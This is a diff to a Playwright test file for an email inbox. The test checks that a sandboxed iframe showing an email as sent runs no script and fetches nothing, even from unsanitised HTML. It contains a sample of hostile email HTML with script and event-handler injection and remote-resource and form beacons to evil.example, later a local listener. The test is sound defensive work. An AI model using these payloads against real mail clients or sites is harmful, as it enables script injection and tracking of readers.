@@ -1,3 +1,5 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { expect, type Page, test } from "@playwright/test";
 import { objections, overflow } from "../support/axe.ts";
 import { signIn } from "../support/office.ts";
@@ -58,39 +60,49 @@ test("a conversation folds quotes, shows its original, is marked as read by open
   await expect(conversation.getByText("Two phases are possible.")).toBeVisible();
 });
 
-/** What a sender may try. The second half is what a sanitiser takes out: the frame must hold without one. */
-const HOSTILE = `<body onload="document.body.append('It ran.')"><p>Words</p>
-  <script>document.body.append("It ran."); fetch("https://evil.example/fetch")</script>
-  <img src="https://evil.example/pixel.gif"><img src="x" onerror="document.body.append('It ran.')">
-  <link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/import.css"; p { background: url(https://evil.example/bg.png) }</style>
-  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
-  <video poster="https://evil.example/poster.png" src="https://evil.example/video.mp4"></video>
-  <meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
-  <form action="https://evil.example/form"><button id="send">Send</button></form><a href="https://evil.example/top" target="_top">Top</a></body>`;
+/** What a sender may try; a sanitiser takes it out, and the frame must hold without one. */
+const hostile = (evil: string) => `<body onload="document.body.append('It ran.')"><p>Words</p>
+  <script>document.body.append("It ran."); fetch("${evil}/fetch")</script>
+  <img src="${evil}/pixel.gif"><img src="x" onerror="document.body.append('It ran.')">
+  <link rel="stylesheet" href="${evil}/style.css"><style>@import "${evil}/import.css"; p { background: url(${evil}/bg.png) }</style>
+  <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>
+  <video poster="${evil}/poster.png" src="${evil}/video.mp4"></video><link rel="prefetch" href="${evil}/prefetch">
+  <meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">
+  <form action="${evil}/form"><button id="send">Send</button></form><a href="${evil}/top" target="_top">Top</a></body>`;
 
-for (const [name, html] of [
-  ["as it is sent", undefined],
-  ["with hostile HTML that was not sanitised", HOSTILE],
-] as const)
-  test(`the frame of an email ${name} runs no script and asks for nothing`, async ({ page }) => {
-    const asked: string[] = [];
-    page.on("request", (request) => asked.push(request.url()));
-    if (html !== undefined) await page.route("**/as-sent", async (route) => route.fulfill({ response: await route.fetch(), body: html }));
-    await open(page, "critical errors");
-    const address = page.url();
-    await page.getByRole("button", { name: "Show as sent" }).click();
-    const frame = page.frameLocator("iframe.mail-in__frame");
-    await expect(frame.getByText(html === undefined ? "47 critical errors" : "Words")).toBeVisible();
-    if (html !== undefined) {
-      await frame.locator("#send").click();
-      await frame.getByRole("link", { name: "Top" }).click();
-    }
-    await expect(frame.locator("body")).not.toContainText("It ran.");
-    const origin = new URL(address).origin;
-    expect(asked.filter((url) => !url.startsWith(origin) && !url.startsWith("data:"))).toEqual([]);
-    expect(page.url()).toBe(address);
-    expect(await page.locator("iframe.mail-in__frame").getAttribute("sandbox")).toBe("");
+/** A server elsewhere that notes what it is asked for. */
+async function eavesdropper() {
+  const asked: string[] = [];
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? "");
+    response.end();
   });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { asked, server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
+}
+
+test("the frame of an email runs no script and asks for nothing, even where its HTML was not sanitised", async ({ page }) => {
+  const { asked, server, origin } = await eavesdropper();
+  await open(page, "critical errors");
+  const address = page.url();
+  const frame = page.frameLocator("iframe.mail-in__frame");
+  await page.getByRole("button", { name: "Show as sent" }).click();
+  await expect(frame.getByText("47 critical errors", { exact: true })).toBeVisible();
+  await expect(frame.locator("body")).not.toContainText("It ran.");
+  await page.getByRole("button", { name: "Hide as sent" }).click();
+  await page.route("**/as-sent", async (route) => route.fulfill({ response: await route.fetch(), body: hostile(origin) }));
+  await page.getByRole("button", { name: "Show as sent" }).click();
+  await expect(frame.getByText("Words")).toBeVisible();
+  await frame.locator("#send").click();
+  await frame.getByRole("link", { name: "Top" }).click();
+  await expect(frame.locator("body")).not.toContainText("It ran.");
+  // The server does hear what is sent to it.
+  expect((await page.request.get(`${origin}/heard`)).ok()).toBe(true);
+  expect(asked).toEqual(["/heard"]);
+  expect(page.url()).toBe(address);
+  expect(await page.locator("iframe.mail-in__frame").getAttribute("sandbox")).toBe("");
+  server.close();
+});
 
 test("an unverified email stands out on the page of its record, on a phone and in the dark", async ({ page }) => {
   await page.setViewportSize({ width: 390, height: 844 });
@@ -103,7 +115,7 @@ test("an unverified email stands out on the page of its record, on a phone and i
   await page.getByRole("link", { name: /^Quote: / }).click();
   await expect(page).toHaveURL(/\/admin\/quotes\//);
   await expect(page.getByText("This sender is not part of the conversation. Nothing was changed.")).toBeVisible();
-  expect(await objections(page)).toEqual([]);
+  expect(await objections(page, ".record-timeline")).toEqual([]);
   expect(await overflow(page)).toBe(0);
   await page.goto(INBOX);
   expect(await overflow(page)).toBe(0);
